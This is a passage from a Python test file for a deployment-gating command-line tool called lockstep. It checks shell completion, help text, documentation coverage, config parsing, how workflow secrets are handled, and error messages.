                             "COMP_CWORD": "1"})
    assert "plain,validate" in result.stdout.splitlines()
    result = invoke([], env={"_LOCKSTEP_COMPLETE": "bash_complete", "COMP_WORDS": "lockstep init --for",
                             "COMP_CWORD": "2"})
    assert "plain,--forge" in result.stdout.splitlines()


def test_help_lists_the_setup_commands() -> None:
    result = invoke(["--help"])
    for command in ("init", "validate", "dispatch"):
        assert re.search(rf"^  {command}\s", result.stdout, re.M), command
    for command in ("init", "validate", "dispatch"):
        sub = invoke([command, "--help"])
        assert sub.exit_code == 0 and "Examples:" in sub.stdout and "Exit codes:" in sub.stdout


def test_docs_cover_every_option_and_completion() -> None:
    text = DOCS.read_text(encoding="utf-8")
    for name in ("init", "validate", "dispatch"):
        command = cli.commands[name]
        for param in command.params:
            for opt in getattr(param, "opts", []):
                if opt.startswith("--") and opt != "--help":
                    assert opt in text, f"docs/setup.md does not mention {name} {opt}"
    for shell, rc in (("bash", "~/.bashrc"), ("zsh", "~/.zshrc")):
        assert f'eval "$(_LOCKSTEP_COMPLETE={shell}_source lockstep)"' in text
        assert rc in text
    assert "_LOCKSTEP_COMPLETE=fish_source lockstep" in text


def test_docs_examples_load_as_written() -> None:
    """Every ```toml block in docs/setup.md parses with its variables set."""
    text = DOCS.read_text(encoding="utf-8")
    blocks = re.findall(r"```toml\n(.*?)```", text, re.S)
    assert blocks
    for block in blocks:
        env = dict.fromkeys(config_variables(block), "https://staging.example.org")
        parse_config(block, env=env, source="docs", base_dir=ROOT)


def test_generated_files_are_deterministic(gate: Path, tmp_path: Path) -> None:
    assert invoke(["init", *GITHUB_ARGS]).exit_code == 0
    first = {p: p.read_bytes() for p in gate.rglob("*") if p.is_file()}
    assert invoke(["init", *GITHUB_ARGS, "--force"]).exit_code == 0
    assert {p: p.read_bytes() for p in gate.rglob("*") if p.is_file()} == first
    assert not [p for p in gate.rglob(".*") if p.name.startswith(".lockstep")]  # no temp files left


def test_workflow_env_takes_secret_looking_variables_from_secrets(gate: Path) -> None:
    result = invoke(["init", *GITHUB_ARGS, "--check", "api=tool --key=${E2E_API_KEY} --sha=${GITHUB_SHA}"])
    assert result.exit_code == 0, result.output
    env = step_env((gate / ".github" / "workflows" / "lockstep.yml").read_text(), "lockstep")
    assert env["E2E_API_KEY"] == "${{ secrets.E2E_API_KEY }}"
    assert "GITHUB_SHA" not in env  # the runner provides it
    assert "secret E2E_API_KEY" in result.stdout


def test_git_default_tracker_sits_next_to_the_config(gate: Path) -> None:
    result = invoke(["init", "--non-interactive", "--dir", "gates", "--name", "g", "--forge", "git",
                     "--service", "api=repos/api.git"])
    assert result.exit_code == 0, result.output
    config = load(gate / "gates" / "lockstep.toml", {"API_STAGING_URL": "http://127.0.0.1:1"})
    assert config.bypass.tracker == "lockstep-audit.md"  # type: ignore[attr-defined]
    assert config.services[0].repo == "../repos/api.git"  # type: ignore[attr-defined]


def test_validate_accepts_external_checks(gate: Path) -> None:
    """A commit-status check has no program to find: validate must not crash on it."""
    (gate / "lockstep.toml").write_text(
        '[gate]\nname = "g"\nforge = "github"\nrecords = false\n[[services]]\nname = "a"\nrepo = "acme/a"\n'
        'token_env = "PUSH_A"\nhealth_url = "http://x/health"\nversion_url = "http://x/version"\n'
        '[[checks]]\nname = "e2e"\ncommit_status = "e2e"\n'
    )
    result = invoke(["validate"], env={"GITHUB_TOKEN": "ghp_readreadread", "PUSH_A": "ghp_pushpushpush"})
    assert result.exit_code == 0, result.output + result.stderr
    assert "internal error" not in result.stderr


def test_init_into_a_dir_that_cannot_exist_is_one_line_exit_2(tmp_path: Path) -> None:
    """--dir under a regular file used to be `internal error (FileNotFoundError...)`."""
    (tmp_path / "a-file").write_text("")
    target = tmp_path / "a-file" / "gate"
    proc = subprocess.run(
        [sys.executable, "-m", "lockstep", "init", "--dir", str(target), "--non-interactive", "--name", "g",
         "--forge", "git", "--service", f"a={tmp_path / 'a.git'}", "--tracker", "audit.md"],
        capture_output=True, text=True, timeout=60, check=False, cwd=tmp_path,
    )
    assert proc.returncode == 2, proc.stderr
    [line] = proc.stderr.strip().splitlines()
    assert line.startswith("lockstep: ") and "internal error" not in line and str(target) in line
    assert not target.exists()
